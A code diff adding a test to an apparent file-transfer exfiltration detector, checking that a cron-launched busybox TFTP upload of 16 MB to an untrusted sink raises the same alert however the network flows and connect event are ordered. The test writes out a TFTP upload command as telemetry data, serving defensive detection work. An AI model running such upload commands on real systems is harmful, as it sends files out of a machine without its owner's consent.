@@ -69,6 +69,27 @@ describe('AN1170 file transfer detector', () => {
     expect(alerts[0]!.evidence.facts.bytesSent).to.equal(16 * MB + 60);
   });
 
+  it('TFTP with connect() to the server\'s data port: the same alert wherever the connect falls among the flows', () => {
+    // busybox tftp: WRQ to 69 by sendto, then connect() to the port the server answered from. Flows are polled, so
+    // live the connect may come before or after a poll's flows; replay sorts by time. Within the order conntrack
+    // listed them, the alert must not depend on it.
+    const request = flow({ t: 3, protocol: 'udp', src: VICTIM, sport: 40000, dst: SINK, dport: 69, bytesOut: 60, bytesIn: 0 });
+    const data = flow({ t: 3, protocol: 'udp', src: SINK, sport: 50000, dst: VICTIM, dport: 40000, bytesOut: 300_000, bytesIn: 16 * MB });
+    const argv = ['busybox', 'tftp', '-p', '-l', '/tmp/out.bin', SINK];
+    const connected = connect({ t: 2, pid: 13, ppid: 12, uid: 1000, exe: '/usr/bin/busybox', addr: SINK, port: 50000 });
+    const upload = artifact({ path: '/tmp/out.bin', t: 2, size: 16 * MB });
+    const outcome = (batch: TelemetryItem[], connectAt: number) => {
+      const items = [...fromCron(argv), upload, ...batch];
+      items.splice(items.length - batch.length + connectAt, 0, connected);
+      return runDetector('AN1170', items).alerts.map((a) => [a.summary, a.evidence.facts.volumeFrom]);
+    };
+    const alert = (where: string) => [[`busybox (pid 13, uid 1000) from cron, no TTY, sent 16.0 MB to untrusted ${where}: ${argv.slice(1).join(' ')}`, 'flow byte counts']];
+    for (const at of [0, 1, 2]) {
+      expect(outcome([request, data], at), `request, data; connect at ${at}`).to.deep.equal(alert(`${SINK}:69`));
+      expect(outcome([data, request], at), `data, request; connect at ${at}`).to.deep.equal(alert(`${SINK}:50000`));
+    }
+  });
+
   it('without flows, falls back to the size of the uploaded file (at the end of the stream)', () => {
     const items = [...fromCron(scpArgv), artifact({ path: '/tmp/out.bin', t: 3, size: 20 * MB })];
     const { alerts } = runDetector('AN1170', items);
